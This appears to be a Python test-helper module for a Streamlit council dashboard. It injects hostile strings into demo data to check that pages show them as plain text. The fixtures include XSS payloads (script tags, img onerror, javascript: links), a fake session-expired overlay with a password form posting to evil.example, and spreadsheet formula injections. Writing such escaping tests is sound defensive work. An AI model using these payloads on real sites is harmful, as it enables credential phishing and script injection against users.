"""Hostile text in the free-text columns a council loads, loaded through the real loaders, and the checks that a
page shows it as text: never as Markdown, HTML, a Streamlit directive, a plotly tag or a spreadsheet formula.

``HOSTILE`` names each substituted value; ``hostile_programme`` puts them into the demo programme, and
``load_programme`` loads it as the files a council loads (``loaders.demo_files``), the meetings under a file name
that is itself a formula. The checks read what AppTest sees: the Markdown sources of every text element, label,
tooltip and metric; every string in every plotly figure; the HTML of ``st.html``; the CSV of every download.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser

import pandas as pd
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from improvement import style
from improvement.db import get_engine, migrate
from improvement.demo import Programme, build_programme
from loaders import demo_files
from loaders.framework.base import Source
from loaders.run import load_source

HOSTILE = {
    "area_title": 'PLO <script>alert("title")</script> :red[RED] **bold** $x^2$',
    "area_wording": "[link](https://evil.example) <img src=x onerror=alert('wording')> :material/warning: # heading",
    "narrative": (
        '<div style="position:fixed;inset:0;background:white;z-index:99999">Your session has expired</div>\n\n'
        '<form action="https://evil.example/steal"><input name="password" placeholder="Re-enter your password">'
        "</form>\n\n"
        "<a href=\"javascript:alert('narrative')\">re-enter your password</a> :red[urgent] **bold** $x^2$"
    ),
    "overall_narrative": (
        "# heading\n\n- not a list\n\n<script>alert('overall')</script> <img src=x onerror=alert('overall')> "
        "[link](https://evil.example) www.evil.example"
    ),
    "author": "**Author** <img src=x onerror=alert('author')>",
    "risk_title": "<b>Risk</b> <script>alert('risk')</script> :red[RISK]",
    "risk_owner": '=HYPERLINK("http://evil.example","x")',
    "mitigation": "@SUM(1+1)",
    "team": "+1 <b>Team</b> :red[T]",
    "meeting_title": "-1+1 <i>board</i> <script>alert('meeting')</script>",
    "action": "<i>Action</i> :material/warning: [link](https://evil.example)",
    "action_owner": "-Head <img src=x onerror=alert('owner')>",
    "milestone": "=1+1 <script>alert('milestone')</script>",
    "measure_name": "CP visits <b>within</b> 10 days :red[M]",
    "measure_definition": "$x^2$ <script>alert('definition')</script> [link](https://evil.example)",
    "adviser_name": "<b>Adviser</b> :red[A]",
    "contract_notes": "<img src=x onerror=alert('notes')> **notes**",
}
"""The hostile values substituted into the demo programme, by what they are."""

MEETINGS_FILE = "=HYPERLINK(1)meetings.csv"
"""The name the meetings file is loaded under: it lands in the load history and the freshness table."""

AREA = "PA1"  # the priority area whose title, wording and narratives are hostile
RISK = "R01"  # the open risk whose title is hostile (every risk's owner and mitigation are)
ACTION = "PA1.1"  # the action whose title and owner are hostile
MEASURE = "cp_visits_within_10_days"  # the measure whose name and definition are hostile


def hostile_programme(text: Mapping[str, str] = HOSTILE) -> Programme:
    """The demo programme with the hostile values in ``text`` (keys of ``HOSTILE``) substituted."""
    programme = build_programme()
    areas = programme.priority_areas.copy()
    at_area = areas["code"] == AREA
    areas.loc[at_area, "title"] = text["area_title"]
    areas.loc[at_area, "ofsted_wording"] = text["area_wording"]
    ratings = programme.rag_ratings.copy()
    ratings.loc[ratings["priority_area_code"] == AREA, "narrative"] = text["narrative"]
    reports = programme.rag_reports.assign(overall_narrative=text["overall_narrative"], author=text["author"])
    risks = programme.risks.assign(owner=text["risk_owner"], mitigation=text["mitigation"])
    risks.loc[risks["reference"] == RISK, "title"] = text["risk_title"]
    first_team = programme.caseloads["team"].iloc[0]
    caseloads = programme.caseloads.assign(team=programme.caseloads["team"].replace({first_team: text["team"]}))
    meetings = programme.meetings.assign(title=text["meeting_title"])
    actions = programme.plan_actions.copy()
    at_action = actions["reference"] == ACTION
    actions.loc[at_action, "title"] = text["action"]
    actions.loc[at_action, "owner"] = text["action_owner"]
    milestones = programme.milestones.copy()
    milestones.loc[milestones["action_reference"] == ACTION, "title"] = [
        f"{text['milestone']} {number}"
        for number in range(1, int((milestones["action_reference"] == ACTION).sum()) + 1)
    ]
    measures = programme.measures.copy()
    at_measure = measures["code"] == MEASURE
    measures.loc[at_measure, "name"] = text["measure_name"]
    measures.loc[at_measure, "definition"] = text["measure_definition"]
    contracts = programme.adviser_contracts.assign(adviser_name=text["adviser_name"], notes=text["contract_notes"])
    return dataclasses.replace(
        programme,
        priority_areas=areas,
        rag_ratings=ratings,
        rag_reports=reports,
        risks=risks,
        caseloads=caseloads,
        meetings=meetings,
        plan_actions=actions,
        milestones=milestones,
        measures=measures,
        adviser_contracts=contracts,
    )


def hostile_database(path) -> str:
    """A SQLite database at ``path`` holding the hostile programme, loaded through the loaders; its URL."""
    url = f"sqlite:///{path}"
    engine = get_engine(url)
    migrate(engine)
    load_programme(engine, hostile_programme())
    engine.dispose()
    return url


def load_programme(engine, programme: Programme, *groups: str) -> None:
    """Load the programme's files (every group, or ``groups``) through the loaders, as a council would; the
    meetings file under ``MEETINGS_FILE``. Fails with the loader's own message if a file is refused."""
    files = demo_files.files_of(programme, *groups) if groups else demo_files.programme_files(programme)
    for name, content in files.items():
        shown = MEETINGS_FILE if name == "meetings.csv" else name
        result = load_source(engine, Source(shown, content))
        assert result.ok, result.summary()


# --- what a page shows ----------------------------------------------------------------------------------------

_TEXT_ELEMENTS = ("title", "header", "subheader", "markdown", "caption", "info", "warning", "success", "error")
_LABELLED = ("expander", "checkbox", "selectbox", "multiselect", "button", "download_button", "metric")


def markdown_sources(app: AppTest) -> list[str]:
    """Every text on the page that Streamlit renders as Markdown: text elements, and the labels, tooltips and
    metric values of widgets, expanders and metrics."""
    found = [str(element.value) for kind in _TEXT_ELEMENTS for element in getattr(app, kind)]
    for kind in _LABELLED:
        for element in getattr(app, kind):
            found += [str(getattr(element.proto, field, "")) for field in ("label", "help", "body")]
    return [text for text in found if text]


def figure_strings(app: AppTest) -> list[str]:
    """Every string in every plotly figure on the page (titles, annotations, names, labels, hover data...)."""

    def walk(value) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from walk(item)
        elif isinstance(value, list):
            for item in value:
                yield from walk(item)

    return [text for chart in app.get("plotly_chart") for text in walk(json.loads(chart.proto.spec))]


def html_bodies(app: AppTest) -> list[str]:
    return [str(element.proto.body) for element in app.get("html")]


def shown(markdown: str) -> str:
    """What a reader sees of Markdown source, as far as loaded text goes: Markdown's backslash escapes before
    punctuation removed, the invisible word joiner dropped."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown).replace(style.WORD_JOINER, "")


def collapsed(text: str) -> str:
    return " ".join(text.split())


# Markup in the hostile values that must never reach Markdown unescaped (a backslash before it keeps it text).
_ACTIVE_MARKDOWN = re.compile(
    r"(?<!\\)<(script|div|form|a|img|b|i|u|input)\b"
    r"|(?<!\\):(red|material|urgent)"
    r"|(?<!\\)\$x"
    r"|(?<!\\)\*\*(?-i:bold|Author|notes)"
    r"|(?<!\\)\[link"
    r"|https?://evil|www\.evil"
    r"|(?m:^#+ heading|^- not a list)",
    re.IGNORECASE,
)


def active_markdown(source: str) -> list[str]:
    """The hostile markup left active in a Markdown source (empty when every bit of it is escaped)."""
    return [found.group(0) for found in _ACTIVE_MARKDOWN.finditer(source)]


PLOTLY_TAGS = re.compile(r"</?(b|br|extra)>")
"""The only tags the dashboard's own chart text uses (bold titles, line breaks, hover's <extra>)."""


_BARE_AMPERSAND = re.compile(r"&(?!(amp|lt|gt|#36);)")


def active_plotly(text: str) -> bool:
    """Whether a figure string holds markup, maths or a character reference that did not come from the dashboard:
    a '<' that is not one of its own tags, a '$' (plotly typesets $...$), or an '&' that is not one of the
    references ``style.escape_html`` writes (plotly would show '&lt;' typed in a file as '<')."""
    return "<" in PLOTLY_TAGS.sub("", text) or "$" in text or bool(_BARE_AMPERSAND.search(text))


def marked(text: str, letter: str) -> str:
    """``text`` between two markers of plain capitals (``ZZ<letter>S`` and ``ZZ<letter>E``), so a test finds where
    it shows whatever the text is, and no escaping rule depends on what stands before or after it."""
    return f"ZZ{letter}S {text} ZZ{letter}E"


def marked_regions(source: str, letter: str) -> list[str]:
    """Each stretch of ``source`` from a start marker to its end marker (or to the end of ``source``, where the
    page shortened the text)."""
    start, end = f"ZZ{letter}S", f"ZZ{letter}E"
    regions = []
    for found in re.finditer(re.escape(start), source):
        stop = source.find(end, found.start())
        regions.append(source[found.start() : stop + len(end) if stop >= 0 else len(source)])
    return regions


def check_markdown_region(region: str, typed: str) -> None:
    """A stretch of Markdown holding loaded text is escaped (escaping what it shows gives it back: nothing in it
    acts) and shows what was typed (all of it, or the start of it where the page shortened it)."""
    assert style.escape_markdown(shown(region)) == region, f"not escaped: {region!r}"
    assert collapsed(typed).startswith(shown(region)), f"shows {shown(region)!r} for {typed!r}"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)

    def handle_data(self, data) -> None:
        self.text.append(data)


def html_tags_and_text(body: str) -> tuple[set[str], str]:
    """The tags an HTML fragment holds, and its text as a browser shows it (entities decoded)."""
    parser = _Tags()
    parser.feed(body)
    return set(parser.tags), "".join(parser.text)


# --- downloads ------------------------------------------------------------------------------------------------


def record_downloads(monkeypatch) -> dict[str, bytes]:
    """From now on, the bytes of every file the app hands to the browser (download buttons), by media file id."""
    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        if isinstance(path_or_data, bytes):
            files[file_id] = path_or_data
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return files


def csv_downloads(app: AppTest, files: Mapping[str, bytes]) -> dict[str, list[list[str]]]:
    """Each "Download as CSV" on the page, read as a spreadsheet reads it (Python's csv module): key -> rows."""
    found = {}
    for button in app.get("download_button"):
        if str(button.proto.label) != "Download as CSV":
            continue
        file_id = str(button.proto.url).rsplit("/", 1)[-1].split(".")[0]
        found[str(button.proto.id)] = list(csv.reader(io.StringIO(files[file_id].decode("utf-8"))))
    return found


_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def formula_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as a formula: starting with = + - @, a tab or a carriage return, unless
    the cell is a plain number."""
    return [
        cell for row in rows for cell in row if cell.startswith(style.FORMULA_STARTS) and not _NUMBER.fullmatch(cell)
    ]


def frame_cells(app: AppTest) -> list[str]:
    """Every cell and column heading of every table (``st.dataframe``) on the page, as text."""
    cells = []
    for element in app.dataframe:
        frame: pd.DataFrame = element.value
        cells += [str(column) for column in frame.columns]
        cells += [str(value) for value in frame.to_numpy().ravel().tolist()]
    return cells
